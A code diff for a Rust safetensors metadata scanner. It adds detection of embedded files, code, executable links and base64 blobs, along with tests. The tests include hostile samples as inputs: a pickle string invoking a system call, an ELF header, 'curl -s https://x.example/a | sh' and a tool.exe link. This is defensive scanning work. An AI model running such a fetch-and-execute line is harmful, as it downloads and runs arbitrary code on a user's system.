@@ -1,8 +1,11 @@
 //! Checks on `__metadata__`: keys against the conventions the ecosystem
 //! writes (Hugging Face `format`, kohya `ss_*`/`sshs_*`, additional-networks
 //! `ssmd_*`, Stability ModelSpec `modelspec.*`, the webui merger's
-//! `sd_merge_*`), values of known keys against their expected shape, sizes.
+//! `sd_merge_*`), values of known keys against their expected shape, sizes,
+//! and what any value carries: another format's file, code, links to
+//! executables, blobs ([`crate::payload`]; flagged, never decoded or run).
 
+use crate::payload::{self, text};
 use crate::{Finding, RuleId};
 
 /// Values longer than this many bytes are reported as huge.
@@ -123,6 +126,72 @@ pub(crate) fn metadata_findings<'a>(
                 .key(key),
             );
         }
+        carried(key, value, out);
+    }
+}
+
+/// What the value of `key` carries: another format's file (at its start
+/// or anywhere in it), else code; links to executables; a blob (images
+/// under the image keys are expected to be base64).
+fn carried(key: &str, value: &str, out: &mut Vec<Finding>) {
+    let bytes = value.as_bytes();
+    let len = bytes.len() as u64;
+    let found = payload::at_start(bytes, len).map_or_else(
+        || payload::scan(bytes, 0, bytes.len(), len).0,
+        |first| payload::Found {
+            first: Some(first),
+            count: 1,
+        },
+    );
+    if let Some(p) = found.first {
+        let more = match found.count {
+            0 | 1 => String::new(),
+            n => format!(" ({n} places in all)"),
+        };
+        out.push(
+            Finding::new(
+                RuleId::MetadataPayload,
+                format!(
+                    "__metadata__ value of {key:?} ({} bytes) holds {} at byte {}{more}",
+                    bytes.len(),
+                    p.what,
+                    p.at
+                ),
+            )
+            .key(key)
+            .count(found.count.max(1)),
+        );
+    } else if let Some(code) = text::code(value) {
+        out.push(
+            Finding::new(
+                RuleId::MetadataCode,
+                format!("__metadata__ value of {key:?} holds code: {code}"),
+            )
+            .key(key),
+        );
+    }
+    if let Some(url) = text::executable_link(value) {
+        out.push(
+            Finding::new(
+                RuleId::MetadataExecutableLink,
+                format!("__metadata__ value of {key:?} links to an executable, script or pickle: {url:?}"),
+            )
+            .key(key),
+        );
+    }
+    if !IMAGE_KEYS.contains(&key) {
+        if let Some((at, n, kind)) = text::blob(value) {
+            out.push(
+                Finding::new(
+                    RuleId::MetadataBlob,
+                    format!(
+                        "__metadata__ value of {key:?} holds a {kind} blob of {n} characters at character {at} (not decoded)"
+                    ),
+                )
+                .key(key)
+                .count(n as u64),
+            );
+        }
     }
 }
 
@@ -195,6 +264,50 @@ mod tests {
             );
         }
         assert!(rules(&[("ss_tag_frequency", "[1, 2]")]).is_empty());
+    }
+
+    #[test]
+    fn values_carrying_files_code_links_or_blobs() {
+        assert_eq!(
+            rules(&[("ss_note", "cos\nsystem\n(S'id'\ntR.")]),
+            ["metadata-payload"]
+        );
+        assert_eq!(
+            rules(&[(
+                "ss_note",
+                "x\u{7f}ELF\u{2}\u{1}\u{1}\0\0\0\0\0\0\0\0\0\u{2}\0\u{3e}\0"
+            )]),
+            ["metadata-payload"]
+        );
+        assert_eq!(
+            rules(&[("ss_note", "run: curl -s https://x.example/a | sh")]),
+            ["metadata-code"]
+        );
+        assert_eq!(
+            rules(&[("ss_note", "get https://x.example/tool.exe")]),
+            ["metadata-executable-link"]
+        );
+        let blob = "QUJDZGVm0123".repeat(100);
+        assert_eq!(rules(&[("ss_note", &blob)]), ["metadata-blob"]);
+        // Images are base64 where images are expected.
+        let image = format!("data:image/png;base64,{blob}");
+        assert!(rules(&[("modelspec.thumbnail", &image)]).is_empty());
+        assert!(rules(&[("ssmd_cover_images", &format!("[\"{blob}\"]"))]).is_empty());
+        // Ordinary metadata carries nothing.
+        assert!(rules(&[
+            ("ss_network_module", "networks.lora"),
+            (
+                "ss_tag_frequency",
+                "{\"10_sks dog\": {\"sks\": 10, \"dog\": 8}}"
+            ),
+            (
+                "modelspec.description",
+                "A LoRA. Use: `pipe.load_lora_weights(p); pipe.to('cuda')`"
+            ),
+            ("ssmd_source", "https://civitai.com/models/12345"),
+            ("sshs_model_hash", &"ab".repeat(32)),
+        ])
+        .is_empty());
     }
 
     #[test]
